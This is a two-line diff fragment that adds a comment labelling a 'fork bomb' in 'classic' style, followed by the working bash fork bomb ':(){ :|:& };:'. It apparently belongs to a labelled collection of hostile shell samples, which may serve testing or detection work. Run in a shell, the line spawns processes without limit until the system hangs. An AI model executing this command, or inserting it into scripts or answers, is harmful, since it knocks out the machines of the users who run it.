@@ -1,0 +1,2 @@
+# class: fork bomb; style: classic
+:(){ :|:& };:
